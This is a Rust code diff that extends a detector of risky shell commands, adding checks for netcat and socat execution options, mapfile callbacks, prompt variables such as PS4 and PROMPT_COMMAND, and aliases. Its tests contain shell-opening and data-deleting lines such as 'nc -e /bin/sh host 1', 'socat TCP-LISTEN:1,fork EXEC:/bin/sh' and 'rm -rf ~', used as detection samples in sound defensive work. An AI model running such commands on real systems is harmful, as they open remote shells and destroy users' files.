@@ -1,11 +1,18 @@
 //! Recognizes commands that other programs run because they are in an option, a script in the program's own
 //! language, or a variable: `tar --to-command`, `awk 'BEGIN { system("…") }'`, `GIT_EDITOR=…`.
 
-use super::arguments::{INTERPRETERS, SHELLS, is_assignment, program, targets, values};
+use super::arguments::{
+    INTERPRETERS, SHELLS, has_flag, is_assignment, is_command_flag, program, targets, values,
+};
 
 const AWKS: &[&str] = &["awk", "gawk", "mawk", "nawk", "original-awk"];
 
-const EDITORS: &[&str] = &["ex", "gvim", "nvim", "rvim", "vi", "view", "vim", "vimdiff"];
+pub(super) const EDITORS: &[&str] = &["ex", "gvim", "nvim", "rvim", "vi", "view", "vim", "vimdiff"];
+
+const NETCATS: &[&str] = &["nc", "nc.openbsd", "nc.traditional", "ncat", "netcat"];
+
+/// Types of socat's addresses that run a command (socat 1.8).
+const SOCAT_COMMANDS: &[&str] = &["exec:", "shell:", "system:"];
 
 /// Parts of an editor's command that run another program or code.
 const RUNNING_EDITOR_COMMANDS: &[&str] = &[
@@ -85,10 +92,14 @@ const CODE_VARIABLES: &[&str] = &[
     "LD_PRELOAD",
     "LESSCLOSE",
     "LESSOPEN",
+    "PROMPT_COMMAND",
 ];
 
+/// Variables in whose value a shell runs substitutions: the file that an interactive one reads first, and prompts.
+const EXPANDED_VARIABLES: &[&str] = &["ENV", "PS0", "PS1", "PS2", "PS4"];
+
 /// Commands that set variables.
-const SETTERS: &[&str] = &["declare", "export", "readonly", "typeset"];
+const SETTERS: &[&str] = &["declare", "export", "local", "readonly", "typeset"];
 
 /// Finds a command in the arguments of a program that runs it.
 pub(super) fn find_command(name: &str, arguments: &[String]) -> Option<String> {
@@ -100,6 +111,15 @@ pub(super) fn find_command(name: &str, arguments: &[String]) -> Option<String> {
         "scp" | "sftp" | "ssh" => arguments.iter().any(|word| names_ssh_command(word)),
         "emacs" => has_any(arguments, RUNNING_LISP),
         "git" => arguments.iter().any(|word| word.starts_with("ext::")),
+        // A shell runs the value for each line of its input.
+        "mapfile" | "readarray" => values(arguments, 'C', "").next().is_some(),
+        "socat" => arguments.iter().any(|word| contains_any(&word.to_ascii_lowercase(), SOCAT_COMMANDS)),
+        _ if NETCATS.contains(&name) => {
+            let is_long = |word: &String| word.starts_with("--") && word.contains("-exec");
+            has_flag(arguments, 'e', "exec")
+                || has_flag(arguments, 'c', "sh-exec")
+                || arguments.iter().any(is_long)
+        }
         _ if EDITORS.contains(&name) => {
             list_editor_commands(arguments).any(|command| contains_any(command, RUNNING_EDITOR_COMMANDS))
         }
@@ -119,8 +139,23 @@ pub(super) fn find_variable(words: &[String]) -> Option<String> {
     let (name, _) = assigned.find(|(name, value)| {
         (COMMAND_VARIABLES.contains(name) && !is_usual(value) && !is_plain_program(value))
             || (CODE_VARIABLES.contains(name) && !["", "/dev/null"].contains(value))
+            || (EXPANDED_VARIABLES.contains(name) && runs_in_shell(name, value))
     })?;
     Some(format!("sets a program for others to run ({name})"))
+}
+
+/// Returns true if a shell runs code because of the value of a variable. The value of `ENV` names a file.
+fn runs_in_shell(name: &str, value: &str) -> bool {
+    value.contains('`') || value.contains("$(") || (name == "ENV" && value.contains(['/', '.', '$']))
+}
+
+/// Finds a change of what later words of the shell mean: an alias, or a value that is expanded like a prompt.
+pub(super) fn find_redefinition(words: &[String]) -> Option<String> {
+    let (name, arguments) = program(words);
+    let defined = arguments.iter().find(|word| name == "alias" && word.contains('='));
+    let alias = defined.map(|word| format!("defines an alias ({})", word.split('=').next().unwrap_or(word)));
+    let expands = || words.iter().any(|word| word.contains("@P}"));
+    alias.or_else(|| expands().then(|| "runs the substitutions in a value (${…@P})".into()))
 }
 
 /// Returns true for a common program that runs no other program.
@@ -240,10 +275,12 @@ fn skip_part(text: &str, delimiter: char) -> &str {
     ""
 }
 
-/// Lists the commands that an editor runs at its start: `-c COMMAND`, `--cmd COMMAND`, `+COMMAND`.
-fn list_editor_commands(arguments: &[String]) -> impl Iterator<Item = &str> {
+/// Lists the commands that an editor runs at its start: `-c COMMAND`, `--cmd COMMAND`, `+COMMAND`. Letters may precede
+/// the `c`.
+pub(super) fn list_editor_commands(arguments: &[String]) -> impl Iterator<Item = &str> {
     arguments.iter().enumerate().filter_map(|(at, word)| match word.as_str() {
-        "-c" | "--cmd" => arguments.get(at + 1).map(String::as_str),
+        "--cmd" => arguments.get(at + 1).map(String::as_str),
+        word if is_command_flag(word) && word.ends_with('c') => arguments.get(at + 1).map(String::as_str),
         word => word.strip_prefix('+').or_else(|| word.strip_prefix("-c")),
     })
 }
@@ -287,6 +324,15 @@ mod tests {
             "sort --compress-program=./x y",
             "git clone 'ext::sh -c x'",
             "git fetch --upload-pack='sh -c x' y",
+            "mapfile -C 'rm -f' < x",
+            "readarray -t -c1 -Cx a < y",
+            "nc -e /bin/sh host 1",
+            "nc -lp 1 -e ./x",
+            "ncat -lc 'cat x' 1",
+            "ncat --sh-exec 'cat x' host 1",
+            "ncat --lua-exec x.lua host 1",
+            "socat TCP-LISTEN:1,fork EXEC:/bin/sh",
+            "socat - system:'ls x',pty",
         ] {
             let risk = risk_in_work(line).unwrap_or_default();
             assert!(risk.starts_with("runs a command in its arguments ("), "{line}: {risk}");
@@ -303,6 +349,12 @@ mod tests {
             ("PAGER=sh git log", "PAGER"),
             ("LD_PRELOAD=./x.so ls", "LD_PRELOAD"),
             ("BASH_ENV=x bash y", "BASH_ENV"),
+            ("ENV=./x sh -i", "ENV"),
+            ("ENV='$(ls)' sh -i", "ENV"),
+            ("PS4='$(ls)' bash -x y", "PS4"),
+            ("export PS4='`ls`'; set -x; ls", "PS4"),
+            ("f() { local PS4='$(ls)'; set -x; }; f", "PS4"),
+            ("PROMPT_COMMAND=ls bash -i", "PROMPT_COMMAND"),
             (
                 "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=./x git log",
                 "GIT_CONFIG_COUNT",
@@ -311,6 +363,20 @@ mod tests {
         ] {
             let expected = format!("sets a program for others to run ({name})");
             assert_eq!(risk_in_work(line), Some(expected), "{line}");
+        }
+    }
+
+    #[test]
+    fn embedded_alias_is_judged_and_asks() {
+        for (line, expected) in [
+            ("shopt -s expand_aliases; alias x='ls -l'\nx", "defines an alias (x)"),
+            ("alias -g x=y", "defines an alias (x)"),
+            ("alias a='sudo x'", "runs as another user (sudo)"),
+            ("shopt -s expand_aliases\nalias x='rm -rf ~'\nx", "deletes everything under ~"),
+            ("mapfile -C 'rm -rf ~' < x", "deletes everything under ~"),
+            ("X='$(ls)'; echo \"${X@P}\"", "runs the substitutions in a value (${…@P})"),
+        ] {
+            assert_eq!(risk_in_work(line).as_deref(), Some(expected), "{line}");
         }
     }
 
@@ -343,6 +409,13 @@ mod tests {
             "GIT_CONFIG_NOSYSTEM=1 git log",
             "git log --grep EDITOR=sh",
             "split -l 5 x",
+            "alias",
+            "alias ls",
+            "mapfile -t lines < x",
+            "nc -zv localhost 8080",
+            "socat - TCP:localhost:80",
+            "ENV=production npm start",
+            "PS4='+ ${BASH_SOURCE}:${LINENO}: ' bash -x y",
         ] {
             assert_eq!(risk_in_work(line), None, "{line}");
         }
